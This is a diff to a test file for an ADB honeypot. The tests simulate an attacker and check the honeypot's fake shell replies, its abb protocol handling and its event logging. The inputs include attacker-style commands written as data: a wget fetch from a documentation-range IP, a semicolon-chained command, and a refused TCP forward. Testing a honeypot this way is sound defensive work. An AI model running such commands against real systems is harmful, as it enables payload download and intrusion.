@@ -5,6 +5,7 @@ import { createConnection, type Socket } from "node:net";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { encode, type Message, MessageDecoder } from "../../src/honeypots/adb/protocol";
+import { shellPacket } from "../../src/honeypots/adb/shell-protocol";
 import { type Pot, RawClient, Relay, removeDir, run, startPot } from "./harness";
 
 const sha256 = (bytes: Uint8Array) => createHash("sha256").update(bytes).digest("hex");
@@ -99,6 +100,7 @@ describe("the adb honeypot, attacked with Debian's adb", () => {
     expect(await relay.event("adb.command.input", { input: "getprop ro.product.model" })).toEqual({ eventid: "adb.command.input", input: "getprop ro.product.model", service: "shell,v2,raw", ...common() });
     await relay.event("adb.command.input", { input: "uname -a" });
     expect(await shell(["wget", "http://203.0.113.9/x"])).toEqual({ code: 127, stdout: "", stderr: "/system/bin/sh: wget: inaccessible or not found\n" });
+    expect(await shell(["ls", "/data", ";", "false"])).toEqual({ code: 1, stdout: "", stderr: "ls: /data: Permission denied\n" });
   });
 
   test("adb shell with lines on stdin: no prompt, every line recorded, exit status passed on", async () => {
@@ -200,8 +202,17 @@ describe("the adb honeypot, attacked with Debian's adb", () => {
       ["WRTE", 1, 7, "hi\n10\n"],
       ["CLSE", 1, 7, ""],
     ]);
-    client.send(encode("OPEN", 8, 0, Buffer.from("tcp:203.0.113.1:80\0")));
+    // abb: is `cmd` with NUL-separated arguments, framed with the shell protocol.
+    client.send(encode("OPEN", 9, 0, Buffer.from("abb:package\0list\0packages\0com.whatsapp")));
+    await client.waitFor("WRTE", 2);
+    client.send(encode("OKAY", 9, 2));
+    await client.waitFor("WRTE", 3);
+    client.send(encode("OKAY", 9, 2));
     await client.waitFor("CLSE", 2);
+    const abb = messages(client).filter((m) => m.command === "WRTE" && m.arg1 === 9);
+    expect(Buffer.concat(abb.map((m) => m.data))).toEqual(Buffer.concat([shellPacket(1, "package:com.whatsapp\n"), shellPacket(3, Buffer.of(0))]));
+    client.send(encode("OPEN", 8, 0, Buffer.from("tcp:203.0.113.1:80\0")));
+    await client.waitFor("CLSE", 3);
     expect(messages(client).at(-1)).toMatchObject({ command: "CLSE", arg0: 0, arg1: 8 });
     const refused = await relay.event("adb.command.input", { input: "tcp 203.0.113.1:80" });
     expect(refused).toMatchObject({ service: "tcp:203.0.113.1:80", refused: true });
